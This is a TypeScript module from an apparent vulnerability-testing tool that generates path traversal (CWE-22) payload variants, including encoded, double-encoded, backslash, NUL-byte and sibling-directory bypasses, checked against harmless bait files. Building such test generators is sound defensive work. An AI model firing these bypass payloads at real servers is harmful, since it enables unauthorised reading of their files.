// SPDX-License-Identifier: Apache-2.0
import { posix } from 'node:path';
import { replaceAt } from '../../../../domain/encoded-path.ts';
import type { Encoded } from '../../../../domain/encoded.ts';
import type { BaitFile } from '../../../../domain/probe.ts';
import type { Substitute } from '../../../language.ts';
import type { Attack } from '../attack.ts';
import { distinct, findString, UNDEFINED } from '../values.ts';
import { SCOUT, servedDirectory, takePathApart, type PathPayload } from './path-payload.ts';

/** Planted where the target must not read; it comes back only when the target did. */
const BAIT = 'skymend-bait-7c1f';
const BAIT_NAME = 'skymend-bait.txt';
/** Deep enough to arrive at the root of the file system from any directory a server serves. */
const TO_THE_TOP = '../'.repeat(16);

export const pathTraversal: Attack = {
  weakness: 'CWE-22',

  siblings(value, observation) {
    const found = findString(value, (text) => takePathApart(text) !== undefined);
    const payload = found === undefined ? undefined : takePathApart(found.text);
    if (found === undefined || payload === undefined) {
      return [];
    }
    const all = [...sameFile(payload), ...besideTheRoot(payload, servedDirectory(observation)), ...anywhere(payload)];
    return distinct(
      value,
      all.map((substitute) => ({ ...substitute, value: replaceAt(value, found.at, substitute.value) })),
    );
  },

  neighbours(value, observation) {
    const found = findString(value, (text) => takePathApart(text) !== undefined);
    const payload = found === undefined ? undefined : takePathApart(found.text);
    const lead = payload?.lead ?? '';
    const root = servedDirectory(observation);
    const all = [scout(lead), ...served(lead, root), ...EDGES.map(([label, changed]) => ({ label, value: changed }))];
    return distinct(
      value,
      all.map((substitute) => ({ ...substitute, value: replaceAt(value, found?.at ?? [], substitute.value) })),
    );
  },
};

/** Other spellings of the climb to the file the reproducer reads, so that success shows as it does there. */
function sameFile({ lead, ups, tail, query }: PathPayload): readonly Substitute[] {
  const climbs: readonly (readonly [string, string])[] = [
    ['down and up again', `sub/${'../'.repeat(Math.max(ups, 1) + 1)}`],
    ['encoded dots', '%2e%2e/'.repeat(ups)],
    ['encoded slash', '..%2f'.repeat(ups)],
    ['plain climb', '../'.repeat(ups)],
    ['encoded dots and slash', '%2e%2e%2f'.repeat(ups)],
    ['one dot encoded', '.%2e/'.repeat(ups)],
    ['encoded twice', '%252e%252e%252f'.repeat(ups)],
    ['backslash', '..\\'.repeat(ups)],
    ['encoded backslash', '..%5c'.repeat(ups)],
    ['dots that survive one removal', '....//'.repeat(ups)],
    ['climb behind a dot', `./${'../'.repeat(ups)}`],
    ['double slash first', `/${'../'.repeat(ups)}`],
  ];
  const spelled = climbs.map(([label, climb]) => ({ label, value: lead + climb + tail + query }));
  const plain = lead + '../'.repeat(ups) + tail;
  return [
    ...spelled,
    { label: 'with a query', value: `${plain}?x=1` },
    { label: 'with a fragment', value: `${plain}#x` },
    { label: 'NUL and a harmless extension', value: `${plain}%00.html` },
    { label: 'raw NUL and a harmless extension', value: `${plain}\0.html` },
  ];
}

/** A directory beside the root whose name begins with the root's name: what `startsWith(root)` lets through. */
function besideTheRoot(payload: PathPayload, root: string | undefined): readonly Substitute[] {
  if (root === undefined || posix.dirname(root) === root) {
    return [];
  }
  const name = `${posix.basename(root)}-evil`;
  const files: readonly BaitFile[] = [{ path: posix.join(posix.dirname(root), name, BAIT_NAME), text: BAIT }];
  const shows = { kind: 'leak', text: BAIT } as const;
  return [
    { label: `neighbour directory ${name}`, value: `${payload.lead}../${name}/${BAIT_NAME}`, shows, files },
    {
      label: `neighbour directory ${name}, encoded`,
      value: `${payload.lead}%2e%2e/${name}/${BAIT_NAME}`,
      shows,
      files,
    },
    { label: 'absolute path of a neighbour', value: posix.join(posix.dirname(root), name, BAIT_NAME), shows, files },
    {
      label: 'absolute path of a neighbour behind a slash',
      value: `/${posix.join(posix.dirname(root), name, BAIT_NAME)}`,
      shows,
      files,
    },
  ];
}

/** A file far away, by climbing to the top and by its absolute path. */
function anywhere({ lead }: PathPayload): readonly Substitute[] {
  const files: readonly BaitFile[] = [{ path: `/tmp/${BAIT_NAME}`, text: BAIT }];
  const shows = { kind: 'leak', text: BAIT } as const;
  return [
    { label: 'climb to the top', value: `${lead}${TO_THE_TOP}tmp/${BAIT_NAME}`, shows, files },
    { label: 'absolute path', value: `/tmp/${BAIT_NAME}`, shows, files },
    { label: 'absolute path behind a slash', value: `//tmp/${BAIT_NAME}`, shows, files },
  ];
}

/** Asked first: where it is looked up tells the root. */
function scout(lead: string): Substitute {
  return { label: 'a missing file', value: lead + SCOUT };
}

/** Files that exist inside the root, and paths to them that a sound guard lets through. */
function served(lead: string, root: string | undefined): readonly Substitute[] {
  const at = (name: string): string => (root === undefined ? name : posix.join(root, name));
  const file = (label: string, name: string, asked = name): Substitute => ({
    label,
    value: lead + asked,
    files: [{ path: at(name), text: `content of ${name}\n` }],
  });
  return [
    file('a file', 'skymend-page.html'),
    file('a nested file', 'skymend-sub/deep/page.txt'),
    file('two dots inside a name', 'skymend-a..b.txt'),
    file('a blank in the name, encoded', 'skymend with blank.txt', 'skymend%20with%20blank.txt'),
    file('a blank in the name', 'skymend with blank.txt'),
    file('a query', 'skymend-page.html', 'skymend-page.html?x=1'),
    file('letters outside ASCII, encoded', 'skymend-键.txt', `skymend-${encodeURIComponent('键')}.txt`),
    file('a file in a directory with two dots in its name', 'skymend..dir/page.txt'),
    file('a script', 'skymend-app.js'),
    file('a directory with an index', 'skymend-sub/index.html', 'skymend-sub/'),
    { label: 'the root itself', value: lead },
    { label: 'a missing nested file', value: `${lead}no/such/page.html` },
    file('a dot before the name', 'skymend-page.html', './skymend-page.html'),
  ];
}

const EDGES: readonly (readonly [string, Encoded])[] = [
  ['empty text', ''],
  ['undefined', UNDEFINED],
];
